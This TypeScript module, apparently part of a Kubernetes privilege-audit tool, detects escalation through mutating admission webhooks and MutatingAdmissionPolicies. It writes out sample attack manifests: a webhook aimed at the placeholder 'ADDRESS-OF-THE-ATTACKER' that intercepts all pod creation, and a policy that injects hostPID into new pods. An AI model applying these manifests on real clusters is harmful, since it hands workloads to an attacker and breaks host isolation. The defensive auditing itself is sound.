import { type Command, inTurn } from '../../answer/command.ts';
import { list } from '../../world/needs.ts';
import { compareVersions, NEWEST } from '../../world/version.ts';
import { unseen } from '../../world/world.ts';
import { createCommand } from '../commands/commands.ts';
import { type Strongest, strongestAmong, strongestOf } from '../probes/strongest.ts';
import { type Holder, type Right, rightsTo, rightsToCreate } from '../rights/holder.ts';
import type { Scope } from '../scope.ts';
import { controllerUser, POD_MAKERS } from '../writes/makers.ts';
import { type FindOtherWays, type OtherWay, onlyIf } from './other-way.ts';

/**
 * Has the pods of others made privileged as they are created, by a webhook or a MutatingAdmissionPolicy of the holder's
 * own. It works where admission lets such a pod through for the controllers that create pods: mutation comes before Pod
 * Security, and is no bypass of it.
 */
export const mutation: FindOtherWays = (holder, _outcomes, scope) => [
  ...byWebhook(holder, scope),
  ...byPolicy(holder, scope),
];

const GROUP = 'admissionregistration.k8s.io';

function byWebhook(holder: Holder, scope: Scope): OtherWay[] {
  const resource = { group: GROUP, resource: 'mutatingwebhookconfigurations', clusterScoped: true } as const;
  const created = rightsToCreate(resource, holder);
  const changed = rightsTo({ ...resource, subresource: '', verbs: ['update', 'patch'] }, holder);
  const isThere = scope.world.list(WEBHOOKS).length > 0;
  const unread = unseen(scope.world, list(WEBHOOKS), 'whether there is a webhook that it could change');
  const rights = [...created, ...(isThere || unread.length > 0 ? changed : [])];
  if (rights.length === 0) return [];
  const found = otherWay(
    'admission-webhook-mutate',
    'have a webhook of its own rewrite pods as they are created',
    rights,
    scope,
  );
  return created.length > 0 || isThere
    ? found
    : found.map((each) => ({ ...each, strongest: onlyIf(each.strongest, unread, null) }));
}

const WEBHOOKS = 'MutatingWebhookConfiguration.admissionregistration.k8s.io';

function byPolicy(holder: Holder, scope: Scope): OtherWay[] {
  // Before 1.36 the kind is not served by default.
  const { version } = scope.world.facts;
  if (compareVersions(version ?? NEWEST, { major: 1, minor: 36 }) < 0) return [];
  const both = ['mutatingadmissionpolicies', 'mutatingadmissionpolicybindings'].map((resource) =>
    rightsToCreate({ group: GROUP, resource, clusterScoped: true }, holder),
  );
  if (both.some((rights) => rights.length === 0)) return [];
  return otherWay('map-inject', 'have a MutatingAdmissionPolicy rewrite pods as they are created', both.flat(), scope);
}

const otherWay = (id: string, words: string, rights: readonly Right[], scope: Scope): OtherWay[] => [
  {
    ...{ id, words, rights, direct: true },
    strongest: strongestOfOthers(scope),
    attack: id === 'map-inject' ? mapCommand() : webhookCommand(),
  },
];

/** The strongest pod that a controller gets through in any namespace of the scope. */
function strongestOfOthers({ probeTrials, namespaces }: Scope): Strongest {
  const maker = POD_MAKERS[0];
  return strongestAmong(
    namespaces.map((namespace) =>
      strongestOf(probeTrials.of({ maker, operation: 'CREATE' }, namespace, controllerUser('replicaset-controller'))),
    ),
  );
}

const PODS = { apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] };

const webhookCommand = (): Command<'changes'> =>
  createCommand({
    apiVersion: `${GROUP}/v1`,
    kind: 'MutatingWebhookConfiguration',
    metadata: { name: 'whocan-escalate' },
    webhooks: [
      {
        name: 'pods.whocan-escalate.example',
        clientConfig: { url: 'https://ADDRESS-OF-THE-ATTACKER' },
        rules: [PODS],
        ...{ admissionReviewVersions: ['v1'], sideEffects: 'None', failurePolicy: 'Ignore' },
      },
    ],
  });

const mapCommand = (): Command<'changes'> | null => {
  const policy = {
    apiVersion: `${GROUP}/v1`,
    kind: 'MutatingAdmissionPolicy',
    metadata: { name: 'whocan-escalate' },
    spec: {
      matchConstraints: { resourceRules: [PODS] },
      failurePolicy: 'Ignore',
      reinvocationPolicy: 'Never',
      mutations: [
        {
          patchType: 'ApplyConfiguration',
          applyConfiguration: { expression: 'Object{spec: Object.spec{hostPID: true}}' },
        },
      ],
    },
  };
  const binding = {
    apiVersion: `${GROUP}/v1`,
    kind: 'MutatingAdmissionPolicyBinding',
    metadata: { name: 'whocan-escalate' },
    spec: { policyName: 'whocan-escalate' },
  };
  return inTurn([createCommand(policy), createCommand(binding)]);
};
